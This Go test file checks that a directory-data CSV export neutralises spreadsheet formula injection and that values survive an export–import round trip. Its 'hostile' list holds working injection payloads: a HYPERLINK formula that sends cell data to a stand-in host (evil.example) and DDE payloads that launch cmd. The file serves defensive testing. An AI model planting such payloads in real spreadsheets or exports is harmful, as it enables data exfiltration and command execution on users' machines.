package hsds

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/quartier/quartier"
)

// hostile is text an editor, an importer or a suggestion may bring into
// the atlas that a spreadsheet would run as a formula.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?x="&A1;"Hilfe")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	`'=schon markiert`,
}

// TestCSVPackageIsInert: no cell of the package starts like a formula
// (spreadsheet formula injection), and the marks come off again on import,
// so that export → import → export keeps every value and every byte.
func TestCSVPackageIsInert(t *testing.T) {
	fx := fixture()
	fx.Offers[0].Name = hostile[0]
	fx.Offers[0].Description = hostile[1]
	fx.Offers[0].Contacts[0].Name = hostile[2]
	fx.Offers[0].Contacts[0].Phone = "+49 30 1234567"
	fx.Offers[0].Contacts[0].Role = hostile[3]
	fx.Offers[0].Costs = hostile[4]
	fx.Offers[1].Name = hostile[5]
	fx.Places[0].Name = "=" + fx.Places[0].Name
	fx.Providers[0].Name = "@" + fx.Providers[0].Name
	opt := EncodeOptions{SRID: quartier.UTM33N, State: "BE", RevealConfidential: true}
	first := exportCSV(t, fx, opt)
	files := unzip(t, first)
	cells := 0
	for name, b := range files {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s line %d: cell %q starts like a formula", name, i+1, c)
				}
				cells++
			}
		}
	}
	if cells < 100 {
		t.Fatalf("only %d cells looked at", cells)
	}
	d, warnings := mustDecode(t, first)
	if len(warnings) != 0 {
		t.Errorf("warnings: %v", warnings)
	}
	byKey := map[string]quartier.Offer{}
	for _, o := range d.Offers {
		byKey[o.Key] = o
	}
	treff := byKey["treff"]
	for got, want := range map[string]string{
		treff.Name: hostile[0], treff.Description: hostile[1], treff.Contacts[0].Name: hostile[2], treff.Contacts[0].Phone: "+49 30 1234567",
		treff.Contacts[0].Role: hostile[3], treff.Costs: hostile[4], byKey["beratung"].Name: hostile[5],
	} {
		if got != want {
			t.Errorf("read back %q, want %q", got, want)
		}
	}
	for _, p := range d.Places {
		if p.Key == "club" && p.Name != fx.Places[0].Name {
			t.Errorf("place name read back %q, want %q", p.Name, fx.Places[0].Name)
		}
	}
	for _, p := range d.Providers {
		if p.Code == "awo" && p.Name != fx.Providers[0].Name {
			t.Errorf("provider name read back %q, want %q", p.Name, fx.Providers[0].Name)
		}
	}
	if second := exportCSV(t, *d, opt); !bytes.Equal(first, second) {
		t.Errorf("second export differs from the first (%d vs %d bytes)", len(first), len(second))
	}
	// JSON is no spreadsheet format: it carries the values as they are.
	if js := exportJSON(t, fx, opt); !bytes.Contains(js, []byte(`"name": "=HYPERLINK(`)) {
		t.Errorf("the JSON export changed the name")
	}
}
